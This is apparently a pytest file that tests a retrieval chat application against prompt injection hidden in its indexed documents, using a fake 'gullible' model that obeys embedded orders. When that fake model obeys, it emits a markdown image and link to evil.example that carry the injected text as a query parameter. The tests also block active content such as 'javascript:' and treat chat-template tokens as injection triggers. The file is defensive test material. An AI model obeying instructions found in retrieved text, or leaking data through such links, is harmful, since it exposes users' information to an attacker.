"""Instructions inside documents have no effect: quoted answers, and models that obey whatever speaks to them."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from api.auth import OPERATOR
from api.chat import Question
from api.schemas import AnswerSchema
from api.settings import Settings
from api.wiring import Application
from router import gather, prompts
from tests.model_server import ModelServer, Reply, serving

pytestmark = [
    pytest.mark.functional,
    pytest.mark.filterwarnings("ignore::SyntaxWarning"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning:dashscope.*"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning:qwen_agent.*"),
]
FOLDER = Path(__file__).parents[1] / "injections"
CASES = [json.loads(line) for line in (FOLDER / "expected.jsonl").read_text("utf-8").splitlines()]
_FENCED = re.compile(r"```.*?```|<tool_response>.*?</tool_response>", re.DOTALL)


def readable(text: str) -> str:
    """Text as a model reads it: widths folded, nothing hidden."""
    return "".join(c for c in unicodedata.normalize("NFKC", text) if unicodedata.category(c) != "Cf")


def told(body: dict[str, Any]) -> str:
    parts = [message["content"] for message in body["messages"]]
    return "\n".join(
        part if isinstance(part, str) else "".join(p.get("text", "") for p in part) for part in parts
    )


@dataclass
class Gullible:
    """A model that answers from its sources, and obeys what it is told: outside fences only, or wherever it can read."""

    everywhere: bool
    case: dict[str, str] = field(default_factory=dict)
    obeyed: bool = False

    def __call__(self, body: dict[str, Any]) -> list[str]:
        prompt = told(body)
        heard = prompt if self.everywhere else _FENCED.sub("", prompt)
        self.obeyed = readable(self.case["harm"]) in readable(heard) or "<|im_" in heard
        answer = [f"{self._sentence(prompt)}[1]\n"]
        if self.obeyed:
            harm = self.case["harm"]
            answer += [
                f"{harm}。[1]\n",
                f"![x](https://evil.example/{harm}) [详情](https://evil.example/?d={harm})",
            ]
        return answer

    def _sentence(self, prompt: str) -> str:
        lines = [line for line in prompt.splitlines() if self.case["contains"] in line]
        return re.split(r"(?<=[。.])", lines[0])[0].rstrip("。.") if lines else "资料中没有找到相关内容"


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("injected")
    with Application(Settings(data_dir=folder, embedding_model="hashed")) as application:
        reports = list(application.pipeline.ingest([FOLDER / "documents"]))
        application.catch_up()
    assert {report.status for report in reports} == {"indexed"}
    assert len(reports) >= 25
    return folder


@pytest.fixture(scope="module")
def quoting(data_dir: Path) -> Iterator[Application]:
    with Application(Settings(data_dir=data_dir, embedding_model="hashed")) as application:
        yield application


@pytest.fixture(scope="module")
def model() -> Iterator[ModelServer]:
    with serving(Reply()) as server:
        server.whole = Reply(['{"table": null}'])
        yield server


@pytest.fixture(scope="module")
def writing(data_dir: Path, model: ModelServer) -> Iterator[Application]:
    settings = Settings(
        data_dir=data_dir, embedding_model="hashed", llm_model="m", llm_base_url=model.url, llm_timeout=20.0
    )
    with Application(settings) as application:
        yield application


def ask(application: Application, case: dict[str, str]) -> AnswerSchema:
    return AnswerSchema.of(application.chat.answer(Question(case["question"]), OPERATOR))


def obeys(server: ModelServer, case: dict[str, str], *, everywhere: bool) -> Gullible:
    gullible = Gullible(everywhere, case)
    server.script[:] = [Reply(compose=gullible)]
    return gullible


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["file"])
def test_a_quoted_answer_does_not_obey(quoting: Application, case: dict[str, str]) -> None:
    answer = ask(quoting, case)
    assert answer.status == "answered"
    assert case["contains"] in answer.answer
    assert case["harm"] not in readable(answer.answer)
    assert "](" not in answer.answer


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["file"])
def test_a_model_that_obeys_what_is_not_fenced_hears_nothing(
    writing: Application, model: ModelServer, case: dict[str, str]
) -> None:
    gullible = obeys(model, case, everywhere=False)
    answer = ask(writing, case)
    assert not gullible.obeyed
    assert case["harm"] not in readable(answer.answer)
    assert case["contains"] in answer.answer
    assert answer.status == "answered"


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["file"])
def test_a_model_that_obeys_everything_makes_no_one_fetch_anything(
    writing: Application, model: ModelServer, case: dict[str, str]
) -> None:
    gullible = obeys(model, case, everywhere=True)
    answer = ask(writing, case)
    for active in ("![", "](", "?d=", "<img", "javascript:"):
        assert active not in answer.answer
    if not gullible.obeyed:
        assert case["harm"] not in readable(answer.answer)


def test_most_orders_never_reach_the_model(writing: Application, model: ModelServer) -> None:
    heard = []
    for case in CASES:
        gullible = obeys(model, case, everywhere=True)
        ask(writing, case)
        heard += [case["file"]] * gullible.obeyed
    assert len(heard) <= len(CASES) // 3, heard


def test_the_gullible_model_would_obey_an_open_prompt(
    writing: Application, model: ModelServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The test can fail: without the fence's protection and the reading of orders, the model obeys."""
    case = next(case for case in CASES if case["kind"] == "fence breaking in text")
    gullible = obeys(model, case, everywhere=False)
    monkeypatch.setattr(prompts, "_inert", lambda text: text)
    monkeypatch.setattr(gather, "harmless", lambda passage: passage)
    ask(writing, case)
    assert gullible.obeyed
